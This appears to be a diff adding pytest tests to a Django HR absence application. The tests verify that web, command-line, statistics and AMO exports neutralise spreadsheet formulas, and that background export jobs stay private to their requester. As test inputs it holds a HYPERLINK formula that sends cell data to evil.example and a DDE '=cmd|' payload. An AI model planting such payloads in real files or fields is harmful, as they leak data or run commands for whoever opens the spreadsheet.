@@ -1,0 +1,183 @@
+"""Exports cannot carry formulas (issue 12, point 3), and stream at any size (issue 14, point 4).
+
+Text that a spreadsheet would run (``=HYPERLINK(...)``, ``+``, ``-``, ``@``) is plain text in every
+export: web, command line, statistics, AMO process and annual discussion.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from django.core.management import call_command
+from openpyxl import load_workbook
+
+from naervaer.absence.models import AbsenceDegree, AbsenceSpell
+from naervaer.amo.models import ActionPlan, AnnualDiscussion, Process
+from naervaer.exports import csv_bytes, neutralise
+from naervaer.importexport.exporters import COLUMNS, absence_rows, employee_rows
+from naervaer.importexport.importers import import_employees
+from naervaer.importexport.models import ExportJob
+from naervaer.importexport.tabular import read_table
+from naervaer.people.models import Organisation, Person, Unit
+from tests.conftest import World, client_for, make_person
+
+pytestmark = pytest.mark.django_db
+ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
+FORMULAS = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def body(response: object) -> bytes:
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
+    return response.content  # type: ignore[attr-defined]
+
+
+def csv_cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+
+
+def no_formula_in_csv(data: bytes) -> None:
+    for row in csv_cells(data):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def no_formula_in_xlsx(data: bytes) -> list[str]:
+    """Every cell of every sheet is a value, never a formula; returns the texts."""
+    book = load_workbook(io.BytesIO(data))
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    return texts
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_neutralise_makes_formula_text_plain(text: str) -> None:
+    assert neutralise(text) == "'" + text
+    assert neutralise("Åse Ågård") == "Åse Ågård"
+
+
+@pytest.fixture
+def hostile(world: World) -> World:
+    unit = Unit.objects.create(organisation=world.acme, parent=world.pleje, name="+Vest")
+    person = make_person(world.acme, "@1", ATTACK, unit)
+    spell = AbsenceSpell.objects.create(
+        person=person, first_day="2026-11-02", last_day="2026-11-03"
+    )
+    AbsenceDegree.objects.create(spell=spell, from_day=spell.first_day, percent=100)
+    return world
+
+
+@pytest.mark.parametrize("kind", ["employees", "absences"])
+def test_web_exports_carry_no_formula(hostile: World, kind: str) -> None:
+    client = client_for(hostile.hanne)
+    csv_response = client.get(f"/export/{kind}.csv")
+    assert csv_response.streaming and csv_response["Cache-Control"] == "no-store"
+    data = body(csv_response)
+    no_formula_in_csv(data)
+    assert any(row[0] == "'@1" for row in csv_cells(data))
+    texts = no_formula_in_xlsx(body(client.get(f"/export/{kind}.xlsx")))
+    assert "@1" in texts and (kind == "absences" or ATTACK in texts)
+
+
+def test_the_neutralised_file_imports_back_to_the_same_names(hostile: World) -> None:
+    data = csv_bytes(COLUMNS["employees"], employee_rows(hostile.acme.people.all()))
+    assert b"'=HYPERLINK" in data
+    copy = Organisation.objects.create(slug="copy", name="Kopi", cvr="29189420")
+    assert import_employees(copy, read_table(data, "m.csv")).ok
+    assert Person.objects.get(organisation=copy, employee_id="@1").name == ATTACK
+    assert Unit.objects.filter(organisation=copy, path="Pleje/+Vest").exists()
+
+
+def test_the_command_line_export_carries_no_formula(hostile: World, tmp_path: Path) -> None:
+    for fmt in ("csv", "xlsx"):
+        target = tmp_path / f"employees.{fmt}"
+        call_command("export", "employees", "--org", "acme", "--format", fmt, "-o", str(target))
+        if fmt == "csv":
+            no_formula_in_csv(target.read_bytes())
+        else:
+            assert ATTACK in no_formula_in_xlsx(target.read_bytes())
+
+
+def test_the_statistics_export_carries_no_formula(hostile: World) -> None:
+    Unit.objects.filter(name="+Vest").update(name="=1+1", path="Pleje/=1+1")
+    client = client_for(hostile.hanne)
+    period = {"from": "2026-11-01", "to": "2026-11-30"}
+    no_formula_in_csv(body(client.get("/statistics/export.csv", period)))
+    no_formula_in_xlsx(body(client.get("/statistics/export.xlsx", period)))
+
+
+def test_amo_exports_carry_no_formula(world: World) -> None:
+    process = Process.objects.create(organisation=world.acme, title="Sygefravær", year=2026)
+    ActionPlan.objects.create(
+        organisation=world.acme,
+        process=process,
+        challenge=ATTACK,
+        solution="-1",
+        responsible_text="@leder",
+        results="+ bedre",
+    )
+    process.information.create(what="=2*3", platform="board")
+    client = client_for(world.amy)
+    texts = no_formula_in_xlsx(body(client.get(f"/amo/process/{process.pk}/export.xlsx")))
+    assert ATTACK in texts and "=2*3" in texts
+    client.post("/amo/annual/2026/", {"held_on": "01.12.2026", "focus": "=cmd|'/c calc'!A1"})
+    assert AnnualDiscussion.objects.exists()
+    texts = no_formula_in_xlsx(body(client.get("/amo/annual/2026.xlsx")))
+    assert "=cmd|'/c calc'!A1" in texts
+
+
+def test_the_absence_export_reads_in_a_fixed_number_of_queries(
+    world: World, django_assert_max_num_queries: object
+) -> None:
+    """No prefetch over every spell's id (SQLite's "too many SQL variables" at 250,000)."""
+    person = Person.objects.get(organisation=world.acme, employee_id="1002")
+    spells = AbsenceSpell.objects.bulk_create(
+        AbsenceSpell(
+            person=person, first_day=f"20{10 + i // 12}-{1 + i % 12:02d}-01", last_day=None
+        )
+        for i in range(120)
+    )
+    AbsenceDegree.objects.bulk_create(
+        AbsenceDegree(spell=s, from_day=s.first_day, percent=100) for s in spells
+    )
+    with django_assert_max_num_queries(2):  # type: ignore[operator]
+        rows = list(absence_rows(AbsenceSpell.objects.filter(person__organisation=world.acme)))
+    assert len(rows) >= 120
+
+
+def test_a_large_export_is_built_by_a_worker_and_downloaded_by_its_requester_only(
+    hostile: World, settings: object
+) -> None:
+    settings.EXPORT_BACKGROUND_ROWS = 0  # type: ignore[attr-defined]
+    client = client_for(hostile.hanne)
+    response = client.get("/export/employees.xlsx")
+    job = ExportJob.objects.get()
+    assert response.status_code == 302 and response.url == f"/export/{job.pk}/"  # type: ignore[attr-defined]
+    page = client.get(response.url).content.decode()  # type: ignore[attr-defined]
+    assert "Filen er klar" in page and f"/export/{job.pk}/download" in page
+    download = client.get(f"/export/{job.pk}/download")
+    assert download["Cache-Control"] == "no-store"
+    assert ATTACK in no_formula_in_xlsx(body(download))
+    assert client_for(hostile.olga).get(f"/export/{job.pk}/download").status_code == 404
+    assert client_for(hostile.alice).get(f"/export/{job.pk}/download").status_code == 403
+
+
+def test_a_large_export_waits_for_a_worker_while_the_page_polls(
+    hostile: World, settings: object
+) -> None:
+    settings.EXPORT_BACKGROUND_ROWS = 0  # type: ignore[attr-defined]
+    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}  # type: ignore[attr-defined]
+    client = client_for(hostile.hanne)
+    client.get("/export/absences.csv")
+    job = ExportJob.objects.get()
+    fragment = client.get(f"/export/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
+    assert "hx-trigger" in fragment and "baggrundsproces" in fragment
+    assert client.get(f"/export/{job.pk}/download").status_code == 404
